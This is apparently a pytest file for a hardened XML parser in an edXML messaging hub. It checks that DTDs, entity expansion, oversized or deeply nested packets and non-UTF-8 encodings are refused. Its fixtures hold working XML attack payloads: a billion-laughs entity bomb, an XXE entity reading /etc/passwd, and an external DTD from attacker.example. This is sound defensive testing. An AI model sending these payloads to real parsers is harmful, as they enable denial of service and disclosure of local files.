"""The hardened XML entry point: DTDs, entities, size, depth, element count, encoding."""

from __future__ import annotations

import time

import pytest

from hub.edxml import (
    EnvelopeRefused,
    Limits,
    build_envelope,
    parse_packet,
    parse_xml,
    sample_header,
)
from hub.edxml._xml import schema, schema_bytes
from hub.reasons import Reason

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol9;</edXML>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&xxe;</edXML>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>
"""


def _refusal(data: bytes, limits: Limits | None = None) -> Reason:
    with pytest.raises(EnvelopeRefused) as caught:
        parse_packet(data, limits)
    return caught.value.reason


@pytest.mark.parametrize("data", [BOMB, XXE, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "dtd"])
def test_a_dtd_is_refused_quickly_without_expansion_or_fetching(data: bytes) -> None:
    started = time.perf_counter()
    assert _refusal(data) is Reason.ENVELOPE_DTD_FORBIDDEN
    assert time.perf_counter() - started < 0.05


def test_an_undeclared_entity_reference_is_not_resolved() -> None:
    data = b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&xxe;</edXML>'
    assert _refusal(data) in {Reason.ENVELOPE_DTD_FORBIDDEN, Reason.ENVELOPE_MALFORMED}


def test_a_comment_or_cdata_is_not_mistaken_for_a_dtd() -> None:
    root = parse_xml(b"<a><!-- note --><![CDATA[x < y]]></a>", Limits())
    assert root.tag == "a"


def test_a_packet_over_the_size_limit_is_refused_before_parsing() -> None:
    data = build_envelope(sample_header("000.00.01.H27", "000.00.00.H27"))
    assert _refusal(data, Limits(max_bytes=len(data) - 1)) is Reason.ENVELOPE_TOO_LARGE
    parse_packet(data, Limits(max_bytes=len(data)))


def test_a_deeply_nested_packet_is_refused() -> None:
    data = b"<a>" * 100 + b"</a>" * 100
    with pytest.raises(EnvelopeRefused) as caught:
        parse_xml(data, Limits(max_depth=64))
    assert caught.value.reason is Reason.ENVELOPE_TOO_DEEP
    parse_xml(data, Limits(max_depth=100))


def test_a_packet_with_too_many_elements_is_refused() -> None:
    data = b"<a>" + b"<b/>" * 1000 + b"</a>"
    with pytest.raises(EnvelopeRefused) as caught:
        parse_xml(data, Limits(max_elements=1000))
    assert caught.value.reason is Reason.ENVELOPE_TOO_MANY_ELEMENTS
    parse_xml(data, Limits(max_elements=1001))


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
        b'<?xml version="1.0" encoding="windows-1258"?><a/>',
        "<a>ă</a>".encode("utf-16"),
        b"<a>\xff\xfe</a>",
    ],
    ids=["latin-1", "windows-1258", "utf-16", "invalid-utf-8"],
)
def test_anything_but_utf8_is_refused_as_an_encoding_error(data: bytes) -> None:
    with pytest.raises(EnvelopeRefused) as caught:
        parse_xml(data, Limits())
    assert caught.value.reason is Reason.ENVELOPE_ENCODING_INVALID


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    assert parse_xml(b"\xef\xbb\xbf<a>\xc3\xa2</a>", Limits()).text == "â"


def test_text_that_is_not_xml_is_malformed() -> None:
    assert _refusal(b"this is not xml") is Reason.ENVELOPE_MALFORMED
    assert _refusal(b"") is Reason.ENVELOPE_MALFORMED
    assert _refusal(b"<edXML><unclosed></edXML>") is Reason.ENVELOPE_MALFORMED


def test_the_schema_compiles_and_is_cached_per_thread() -> None:
    assert schema() is schema()
    assert b"QCVN_102_2016" in schema_bytes()
